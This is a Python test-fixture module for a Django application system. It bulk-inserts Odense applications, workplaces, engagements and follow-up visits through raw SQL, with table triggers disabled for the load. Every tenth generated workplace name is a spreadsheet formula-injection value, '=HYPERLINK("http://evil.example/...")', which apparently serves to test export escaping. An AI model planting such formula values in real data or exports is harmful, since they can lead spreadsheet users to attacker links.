"""Any number of applications, each with an engagement and a follow-up, written in a few statements past the guards."""

from django.db import connection

from applications.models import Application, Sector
from tests.consultants.desk import NOW, place
from tests.factories import applications

_GUARDED = (
    "applications_application",
    "applications_application_themes",
    "applications_workplace",
    "consultants_engagement",
    "consultants_assignment",
    "consultants_followupvisit",
)
_COPIED = {
    "id": "gen_random_uuid()",
    "reference": "'SPARK-2026-' || lpad(n::text, 6, '0')",
    "status": "%(status)s",
    "urgency_reason": "CASE WHEN %(status)s = 'granted' THEN 'Haster' ELSE '' END",
    "points": "n %% 87",
    "priority_reasons": "jsonb_build_array(jsonb_build_object('points', n %% 87, 'sentence', 'Ventet: ' || n %% 87))",
    # From one night in October, when the clock is put back, backwards: three hours each.
    "first_submitted_at": "timestamptz '2026-10-25 03:30+01' - n * interval '3 hours'",
    "waiting_since": "(timestamptz '2026-10-25 03:30+01' - n * interval '3 hours')::date",
    "ranked_at": "now()",
    "kind": "'individual'",
    "theme_keys": "'{violence}'",
    "municipality_ids": "ARRAY(SELECT id FROM applications_municipality WHERE code = '461')",
    "sector_ids": "ARRAY(SELECT id FROM applications_sector WHERE key = 'social_and_disability')",
}


def fill(n, *, after=0, status="submitted", consultant=None):
    """``n`` applications of Odense in ``status``; with ``consultant`` an engagement and a follow-up of theirs each.

    ``after``: how many there are already.
    """
    place("461", "Odense")
    Sector.objects.get_or_create(key="social_and_disability", defaults={"name": "Social og handicap (fx bosteder)"})
    applications.theme()
    guard("DISABLE")
    template = Application.objects.create(edited_at=NOW, first_submitted_at=NOW, reference="SPARK-2020-0001")
    names = [field.column for field in Application._meta.concrete_fields if not field.generated]
    values = ", ".join(_COPIED.get(name, name) for name in names)
    facts = {"status": status, "first": after + 1, "last": after + n, "template": template.pk}
    facts["consultant"] = consultant.pk if consultant else None
    with connection.cursor() as cursor:
        cursor.execute(
            f"INSERT INTO applications_application ({', '.join(names)}) SELECT {values} "
            f"FROM applications_application, generate_series(%(first)s, %(last)s) AS n WHERE id = %(template)s",
            facts,
        )
        cursor.execute("DELETE FROM applications_application WHERE id = %(template)s", facts)
        for statement in _BELONGINGS + (_ENGAGEMENTS if consultant else ()):
            cursor.execute(statement, facts)


def guard(how):
    """DISABLE the guards of the tables, or ENABLE them again where no test's end does so."""
    with connection.cursor() as cursor:
        # A table with rows that are still to be checked is not altered.
        cursor.execute("SET CONSTRAINTS ALL IMMEDIATE; SET CONSTRAINTS ALL DEFERRED")
        for table in _GUARDED:
            cursor.execute(f"ALTER TABLE {table} {how} TRIGGER USER")


_N = "right(reference, 6)::int"

_BELONGINGS = (
    # Every tenth name is a formula to whoever lets it be one.
    f"""
    INSERT INTO applications_workplace (
        id, position, name, employees, application_id, municipality_id, sector_id,
        postal_code, town, production_unit, cvr_number
    )
    SELECT gen_random_uuid(), 0,
        CASE WHEN {_N} %% 10 = 0 THEN '=HYPERLINK("http://evil.example/' || {_N} || '")' ELSE 'Æblehaven ' || {_N} END,
        40, application.id, municipality.id, sector.id, '', '', '', ''
    FROM applications_application AS application, applications_municipality AS municipality,
        applications_sector AS sector
    WHERE municipality.code = '461' AND sector.key = 'social_and_disability' AND {_N} >= %(first)s
    """,
    f"""
    INSERT INTO applications_application_themes (application_id, theme_id)
    SELECT application.id, theme.id FROM applications_application AS application, themes_theme AS theme
    WHERE theme.key = 'violence' AND {_N} >= %(first)s
    """,
)
_ENGAGEMENTS = (
    f"""
    INSERT INTO consultants_engagement
      (id, application_id, kind, status, opened_at, first_contact_due_on, closed_on, outcome, wants_follow_up,
       cancel_reason, place_in_calendar, workplace_to_hovedmed, municipality_ids)
    SELECT gen_random_uuid(), id, 'individual', 'closed', first_submitted_at, first_submitted_at::date + 7,
      first_submitted_at::date + 90, 'Fortroligt udbytte', true, '', false, false,
      ARRAY(SELECT id FROM applications_municipality WHERE code = '461')
    FROM applications_application WHERE {_N} >= %(first)s
    """,
    """
    INSERT INTO consultants_assignment (engagement_id, application_id, consultant_id, since)
    SELECT id, application_id, %(consultant)s, opened_at FROM consultants_engagement
    WHERE id NOT IN (SELECT engagement_id FROM consultants_assignment)
    """,
    """
    INSERT INTO consultants_followupvisit
      (id, engagement_id, due_on, entered_at, status, wish, suggested_dates, answered_at, ended_on)
    SELECT gen_random_uuid(), id, closed_on + 182, opened_at, 'due', 'yes', '2027-08-25,2027-10-31', opened_at, NULL
    FROM consultants_engagement WHERE id NOT IN (SELECT engagement_id FROM consultants_followupvisit)
    """,
)
